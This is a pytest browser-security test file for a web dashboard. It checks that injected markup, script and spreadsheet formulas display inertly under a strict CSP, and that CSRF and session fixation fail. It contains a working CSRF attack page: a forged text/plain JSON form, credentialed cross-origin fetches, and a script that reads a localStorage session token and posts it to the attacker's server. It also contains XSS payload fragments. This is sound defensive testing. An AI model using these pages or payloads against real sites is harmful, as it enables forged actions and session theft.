"""Pages under attack, in real Chromium: hostile text is inert everywhere, the CSP holds, forged requests fail.

* Every page (`/`, `/field`, `/console`, `/review`, and the others registered)
  is opened over a county whose names, notes and operation carry markup, script
  and formulas. Nothing runs: no dialog opens, no injected element exists, the
  tripwire ``window.__pwned`` stays unset — and the strict Content-Security-Policy
  (no 'unsafe-inline', no 'unsafe-eval') reports no violation, so every page
  works without them. The hostile text is shown, as text.
* CSRF: a page on another origin, opened in the browser of a logged-in
  commander, submits a form and fires a fetch at the API; both are refused and
  nothing changes.
* Session fixation: a token planted in the browser's storage is never adopted:
  logging in stores a fresh token of the user who logged in.

Screenshots: tests/artifacts/security-page-*.png.
"""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest

from streams.server import EmbeddedRedis
from tests.conftest import PASSWORD, Served, free_port, start_server
from tests.security.env import Env, build_hostile_env
from tests.security.tally import tally

ATTACKS = tally("pages")
BOOT_MS = 90_000
TRAPS = """
window.__csp = [];
window.__dialogs = 0;
document.addEventListener('securitypolicyviolation', e =>
  window.__csp.push(e.violatedDirective + ' ' + e.blockedURI + ' ' + (e.sample || '')));
"""
READY = {
    "/console": "[data-scope]",
    "/field": "input[name=sampled]",
    "/": "[data-kpi=sampled]",
    "/review": "#review-op",
}


@pytest.fixture(scope="module")
def site(redis_server: EmbeddedRedis, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Env, Served]]:
    env = build_hostile_env(redis_server.url)
    served = start_server(redis_server.url, tmp_path_factory.mktemp("pages"))
    yield env, served
    served.stop()


def _pages() -> list[str]:
    """Every registered page (the site fixture's app registered them)."""
    import dash

    return sorted({p["path"] for p in dash.page_registry.values()})


def _login(page: Any, served: Served, path: str, user: str) -> None:
    page.goto(f"{served.url}{path}")
    page.fill("input[name=username]", user)
    page.fill("input[name=password]", PASSWORD)
    page.click("[data-action=login]")


def _open(browser: Any, served: Served, user: str) -> tuple[Any, Any, list[str]]:
    ctx = browser.new_context(viewport={"width": 1600, "height": 1000})
    ctx.add_init_script(TRAPS)
    page = ctx.new_page()
    messages: list[str] = []
    def on_dialog(d: Any) -> None:
        messages.append(f"dialog: {d.message}")
        d.dismiss()

    page.on("dialog", on_dialog)
    page.on("console", lambda m: messages.append(f"console: {m.text}") if "Content Security Policy" in m.text
            or "Refused to" in m.text else None)
    _login(page, served, "/console", user)
    page.wait_for_selector("[data-scope]", timeout=BOOT_MS)
    return ctx, page, messages


def _check(page: Any, messages: list[str], where: str) -> None:
    ATTACKS.add(f"hostile text on {where}")
    assert page.evaluate("window.__pwned") is None, f"{where}: injected script ran"
    assert page.evaluate("window.__csp") == [], f"{where}: CSP violations {page.evaluate('window.__csp')}"
    assert not messages, f"{where}: {messages[:5]}"
    injected = page.evaluate("""() => [
        ...document.querySelectorAll('img[src="x"], [onerror], [onmouseover], b[onmouseover]')
    ].length + [...document.scripts].filter(s => (s.textContent || '').includes('alert("xss")')).length""")
    assert injected == 0, f"{where}: {injected} injected element(s)"


@pytest.mark.parametrize("user", ["commander", "leader"])
def test_every_page_shows_hostile_text_as_text_and_breaks_no_csp_rule(
    browser: Any, site: tuple[Env, Served], artifacts: Path, user: str
) -> None:
    _, served = site
    ctx, page, messages = _open(browser, served, user)
    try:
        pages = _pages()
        assert {"/", "/field", "/console", "/review"} <= set(pages)
        for path in pages:
            page.goto(f"{served.url}{path}")
            sel = READY.get(path)
            if sel and not (path == "/field" and user == "commander"):
                page.wait_for_selector(sel, timeout=BOOT_MS)
            page.wait_for_load_state("networkidle")
            page.wait_for_timeout(1500)
            name = path.strip("/").replace("/", "-") or "board"
            page.screenshot(path=str(artifacts / f"security-page-{name}-{user}.png"))
            _check(page, messages, f"{path} as {user}")
            text = page.inner_text("body")
            if path == "/console" and user == "commander":
                assert "一镇<script>" in text or "+二镇<img" in text, "the hostile names are not shown as text"
            if path == "/field" and user == "leader":
                assert "=HYPERLINK" in text or "<b onmouseover" in text, "the hostile names are not shown as text"
    finally:
        ctx.close()


class _Evil(http.server.BaseHTTPRequestHandler):
    target = ""
    seen: ClassVar[list[dict[str, Any]]] = []

    def do_POST(self) -> None:
        n = int(self.headers.get("Content-Length") or 0)
        self.seen.append(json.loads(self.rfile.read(n) or b"{}"))
        self.send_response(204)
        self.end_headers()

    def do_GET(self) -> None:
        t = self.target
        body = f"""<!doctype html><title>prize</title>
<form id=f method=POST action="{t}/api/v1/modes" enctype="text/plain">
<input name='{{"scope":"TC","mode":"peacetime","x":"' value='"}}'></form>
<form id=g method=POST action="{t}/api/v1/kiosk"><input name=scope value=TC></form>
<script>
const token = (() => {{
  try {{ return JSON.parse(localStorage.getItem('session')).token }} catch (e) {{ return null }} }})();
Promise.all([
  fetch("{t}/api/v1/operations", {{method: "POST", credentials: "include", mode: "no-cors",
         headers: {{"Content-Type": "text/plain"}}, body: JSON.stringify({{kind: "mass_testing", scope: "TC",
         name: "csrf"}})}}).then(r => "sent:" + r.type).catch(e => "blocked"),
  fetch("{t}/api/v1/me", {{credentials: "include"}}).then(r => r.text()).catch(e => "unreadable"),
]).then(([a, b]) => fetch("/seen", {{method: "POST", body: JSON.stringify({{a, b, token}})}}))
  .finally(() => document.getElementById('f').submit());
</script>"""
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *_: Any) -> None:
        pass


def test_a_page_on_another_origin_cannot_act_for_a_logged_in_commander(
    browser: Any, site: tuple[Env, Served]
) -> None:
    env, served = site
    port = free_port()
    seen: list[dict[str, Any]] = []
    handler = type("Evil", (_Evil,), {"target": served.url, "seen": seen})
    evil = http.server.ThreadingHTTPServer(("127.0.0.1", port), handler)
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    ctx, page, _ = _open(browser, served, "commander")
    try:
        before = env.fingerprint()
        audit_before = env.redis.xlen(env.county.keys.audit)
        page.goto(f"http://localhost:{port}/prize")  # another origin (host differs from 127.0.0.1)
        page.wait_for_url(f"{served.url}/api/v1/modes", timeout=30_000)
        ATTACKS.add("CSRF from another origin (form + fetch)", 3)
        assert json.loads(page.inner_text("body"))["error"]["code"] == "not_authenticated"
        (what,) = seen
        assert what["token"] is None, "the other origin read the session"
        assert what["b"] == "unreadable", "the other origin read an API answer"
        page.wait_for_timeout(500)
        assert env.fingerprint() == before
        from dashboard import audit

        refused = [e.fields for e in audit.read(env.redis, "TC", limit=None)][audit_before:]
        assert {(e["path"], e["status"]) for e in refused} >= {("/api/v1/modes", "401"), ("/api/v1/operations", "401")}
    finally:
        ctx.close()
        evil.shutdown()


def test_a_planted_session_is_never_adopted(browser: Any, site: tuple[Env, Served]) -> None:
    env, served = site
    planted = env.token("viewer")
    env.accounts.revoke(env.accounts.verify(planted).token_id, 2**31)  # known to the attacker, dead to us
    ctx = browser.new_context(viewport={"width": 1600, "height": 1000})
    page = ctx.new_page()
    try:
        page.goto(f"{served.url}/console")
        page.evaluate("t => localStorage.setItem('session', JSON.stringify({token: t, username: 'viewer', "
                      "role: 'viewer', scope: 'TC'}))", planted)
        page.reload()
        page.wait_for_selector("input[name=username]", timeout=BOOT_MS)  # the planted token opened nothing
        page.fill("input[name=username]", "commander")
        page.fill("input[name=password]", PASSWORD)
        page.click("[data-action=login]")
        page.wait_for_selector("[data-scope]", timeout=BOOT_MS)
        stored = json.loads(page.evaluate("localStorage.getItem('session')"))
        ATTACKS.add("session fixation (planted token)")
        assert stored["token"] != planted
        assert env.accounts.verify(stored["token"]).actor.username == "commander"
    finally:
        ctx.close()
